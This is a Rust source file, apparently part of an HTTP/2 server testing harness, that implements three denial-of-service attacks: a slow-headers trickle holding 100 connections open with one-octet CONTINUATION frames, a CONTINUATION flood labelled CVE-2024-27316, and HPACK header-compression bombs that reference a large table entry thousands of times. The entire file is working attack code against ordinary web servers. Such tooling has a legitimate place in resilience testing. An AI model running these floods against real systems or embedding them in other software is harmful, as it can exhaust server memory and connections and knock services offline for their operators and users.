//! Header blocks that do not end, that never end, and that are much longer than they look.

use std::sync::Arc;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::{Duration, sleep},
};

use super::{
    peer::{PAUSE, flood},
    stage::{Attack, HEALTH_CHECK, Target},
    wire::{Block, CONTINUATION, Frames, HEADERS, LARGEST_FRAME, stream},
};

/// A header block that comes an octet at a time.
pub(super) const SLOW: Attack = Attack::by_anybody("slow_headers", |target| Box::pin(slow(target)));

async fn slow(target: Arc<Target>) {
    const CONNECTIONS: usize = 100;
    let begun = Block::call(HEALTH_CHECK, None).literal("x-slow", &"x".repeat(8 << 10));
    let one = async |_| {
        let mut first = true;
        loop {
            let trickle = async {
                // Read or not: all that may come is an end.
                let (mut read, mut write) = target.connect().await?.into_split();
                let frames = Frames::opening(&[]).frame(HEADERS, 0, 1, &begun.0);
                write.write_all(&frames.0).await?;
                if std::mem::take(&mut first) {
                    target.occupied(CONNECTIONS);
                    target.did(1);
                }
                let send = async {
                    let octet = Frames::new().frame(CONTINUATION, 0, 1, &[0]);
                    while write.write_all(&octet.0).await.is_ok() {
                        sleep(Duration::from_millis(100)).await;
                    }
                };
                let drain = async {
                    let mut buffer = [0; 256];
                    while read.read(&mut buffer).await.is_ok_and(|len| len > 0) {}
                };
                tokio::select! {
                    () = send => {}
                    () = drain => {}
                }
                std::io::Result::Ok(())
            };
            let _ = trickle.await;
            sleep(PAUSE).await;
        }
    };
    futures_util::future::join_all((0..CONNECTIONS).map(one)).await;
}

/// A header block that goes on for ever (CVE-2024-27316).
pub(super) const CONTINUATIONS: Attack =
    Attack::by_anybody("continuation_flood", |target| Box::pin(continuations(target)));

async fn continuations(target: Arc<Target>) {
    let opening = Frames::opening(&[]).frame(HEADERS, 0, 1, &Block::call(HEALTH_CHECK, None).0);
    let value = "x".repeat(LARGEST_FRAME - 16);
    let long = Frames::new().frame(CONTINUATION, 0, 1, &Block::default().literal("x", &value).0);
    let empty = |frames: Frames, _| frames.frame(CONTINUATION, 0, 1, &[]);
    let empties = (0..1_000).fold(Frames::new(), empty);
    let one = |number| {
        let again = if number % 2 == 0 { &long } else { &empties };
        flood(&target, opening.clone(), |_| Some(again.clone()))
    };
    futures_util::future::join_all((0..4).map(one)).await;
}

/// One long header in the dynamic table, and many references to it, an octet each.
pub(super) const BOMBS: Attack =
    Attack::by_anybody("hpack_bombs", |target| Box::pin(bombs(target)));

async fn bombs(target: Arc<Target>) {
    /// The newest entry of the dynamic table.
    const NEWEST: usize = 62;
    let refer = |times: usize| {
        let refer = |block: Block, _| block.indexed(NEWEST);
        (0..times).fold(Block::call(HEALTH_CHECK, None), refer)
    };
    let first = Block::call(HEALTH_CHECK, None).kept("x", &"y".repeat(3_900));
    let opening = Frames::opening(&[]).headers(stream(0), &first);
    // Too many by far, and just as many as max_header_bytes allows.
    let (too_many, allowed) = (refer(12_000), refer(3));
    let chunk = |turn: u32| {
        let one = |frames: Frames, number: u32| {
            frames.headers(
                stream(number),
                if number.is_multiple_of(8) { &too_many } else { &allowed },
            )
        };
        Some((1 + turn * 16..1 + (turn + 1) * 16).fold(Frames::new(), one))
    };
    let one = |_| flood(&target, opening.clone(), chunk);
    futures_util::future::join_all((0..4).map(one)).await;
}
